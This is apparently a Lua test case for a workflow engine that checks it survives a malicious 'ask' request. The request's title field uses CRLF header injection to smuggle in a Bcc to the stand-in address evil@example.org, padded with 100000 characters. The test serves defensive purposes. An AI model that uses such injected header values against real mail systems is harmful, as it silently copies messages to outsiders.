-- expect: survives
-- mode: loop
-- needs: "flow", "storage", "people", "mail"
flow.define("asker", {}, function(run)
  return run:ask { to = people.person("boss"), title = "a\r\nBcc: evil@example.org\r\n\r\n" .. ("x"):rep(100000), within = "1h", on_timeout = "return" }
end)
--- attack
flow.start("asker", {})
